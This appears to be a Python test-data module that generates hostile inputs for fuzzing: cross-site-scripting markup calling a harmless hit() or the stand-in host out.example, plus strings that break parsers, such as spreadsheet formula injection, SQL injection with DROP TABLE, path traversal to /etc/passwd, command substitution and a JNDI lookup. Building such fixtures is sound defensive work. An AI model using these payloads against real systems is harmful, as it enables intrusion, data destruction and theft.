"""Hostile texts, generated: markup that would run, and strings that break programs.

``payloads`` are ways into a page (elements, attributes, addresses, encodings, ends of whatever the
text may stand in); ``naughty`` are strings that break parsers, fonts, spreadsheets and formats.
Each that can run calls ``hit()`` or asks the host ``out.example``: neither may happen.
"""

from __future__ import annotations

import html
import unicodedata
from collections.abc import Iterator
from urllib.parse import quote

RUN = "hit()"
OUT = "http://out.example/x"

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={OUT}></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src={OUT}>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src={OUT} autoplay></audio>",
    f"<marquee onstart={RUN}>",
    f"<form action={OUT}><button autofocus>x",
    f"<link rel=stylesheet href={OUT}>",
    f"<style>@import url({OUT});*{{background:url({OUT})}}</style>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href={OUT}/>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<div hx-get={OUT} hx-trigger=load>",
    f"<div hx-on:htmx:load={RUN}>",
    f"<div data-hx-get={OUT} hx-trigger=load>x</div>",
    "<figure class=chart data-kind=trend><script type=application/json>{}</script></figure>",
    f"<x popover autofocus onfocus={RUN} tabindex=1>",
    f"<select><option></select><img src=x onerror={RUN}>",
)
_ENDS = (
    "",
    "</script>",
    "</textarea>",
    "</title>",
    "</style>",
    "</td></table>",
    "-->",
    "]]>",
    '">',
    "'>",
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus='hit()",
    "\\u003c/script>",
    "</bdi></main></body></html>",
)
_WRITTEN = (
    lambda text: text,
    str.upper,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    quote,
    lambda text: text.replace("<", "<\0"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("script", "scr\tipt"),
)


def payloads() -> Iterator[str]:
    """Give more than 223 different ways into a page."""
    for number, element in enumerate(_ELEMENTS):
        for end in _ENDS[number % 2 :: 2]:
            yield end + element
    for write in _WRITTEN[1:]:
        for element in _ELEMENTS[::3]:
            yield write(element)
    for end in _ENDS[1:]:
        yield end
    yield from ("{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "{name}")
    yield from (f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"data:text/html,<script>{RUN}</script>")


def naughty() -> Iterator[str]:
    """Give more than 515 different strings that programs stumble over."""
    yield from (f"a{chr(code)}b" for code in range(0x20) if chr(code) not in "\t\n\r")
    yield from (f"a{chr(code)}b" for code in range(0x7F, 0xA0))
    for code in (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0xFEFF):
        yield f"a{chr(code)}b"
    yield from (f"{chr(0x202E)}{word}{chr(0x2066)}" for word in ("gnp.exe", "<b>", "2026"))
    yield from ("Z" + "".join(chr(0x300 + (n + k) % 0x70) for k in range(40)) for n in range(20))
    for mark in "=+-@\t\r|%":
        for cell in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://out.example","x")', "SUM(A1)"):
            yield f"{mark}{cell}"
            yield f' "{mark}{cell}"'
            yield f";{mark}{cell}"
    yield from ("null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-Infinity", "true")
    yield from ("0x10", "1e309", "1/0", "٣", "𝟘", "½", "1_000", "1,000.00", "１２", "-0", "0/0")
    for quoted in ("'", '"', "`", "''", '""', "\\", "\\\\", "\\'", "';--", '";--'):
        yield quoted
        yield f"{quoted} OR 1=1; DROP TABLE core.mention; --"
        yield f"{quoted}, sleep(9), {quoted}"
    yield from ("../../etc/passwd", "C:\\CON", "/dev/null", "file:///etc/passwd", "\\\\host\\share")
    yield from ("%s%n%x%d", "%00", "%0d%0aSet-Cookie:x=y", "\\r\\nX: y", "{0.__class__}", "$(id)")
    yield from ("`id`", "| id", "; id", "&& id", "${jndi:ldap://out.example/x}", "<?xml?>", "&lol;")
    yield from (
        "x" * 5000,
        "ﷺ" * 200,
        "W" * 300,
        "👩‍👩‍👧‍👦" * 50,
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇳🇴🇮🇷🇨🇳",
        "\U000e0041" * 9,
        "﷽",
    )
    yield from ("ｆｕｌｌ", "ﬁ", "İi", "ıI", "ß", "ς", "ǆ", "Å", "Å", "𐐷", "𠜎𠜱", "ㅤ", "­", "͏")
    for start in range(0xA1, 0x1FA00, 0x180):  # a taste of every block that there is
        found = [chr(code) for code in range(start, start + 0x180) if _is_drawn(chr(code))][:12]
        if found:
            yield "".join(found)


def _is_drawn(char: str) -> bool:
    return unicodedata.category(char)[0] in "LMNPS"
